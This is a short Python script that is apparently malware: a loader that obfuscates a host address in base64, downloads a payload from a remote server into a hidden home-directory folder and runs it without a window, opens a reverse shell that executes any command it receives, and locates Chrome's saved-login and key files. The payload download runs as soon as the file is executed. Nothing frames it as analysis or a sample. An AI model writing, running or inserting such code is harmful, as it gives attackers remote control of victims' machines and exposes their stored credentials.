import base64
import os
import platform
import socket
import subprocess
import sys
import uuid

import requests

sType = "5346"
host = base64.b64decode("aHR0cDovL3BheS5pbnZhbGlkOjEyMjQ=").decode()
host1 = "http://203.0.113.7:1224"
pd = os.path.join(os.path.expanduser("~"), ".n2")


def download_payload():
    path = os.path.join(pd, "pay")
    reply = requests.get(host1 + "/payload/" + sType, allow_redirects=True)
    with open(path, "wb") as f:
        f.write(reply.content)
    subprocess.Popen([sys.executable, path], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.CREATE_NEW_PROCESS_GROUP)


class Session:
    def __init__(self):
        self.sys = {"uuid": uuid.getnode(), "system": platform.system(), "hostname": socket.gethostname()}

    def shell(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.7", 2245))
        while True:
            command = s.recv(4096).decode()
            out = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE).communicate()[0]
            s.send(out)


for name in ("Login Data", "Local State"):
    profile = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google/Chrome/User Data/Default", name)
download_payload()
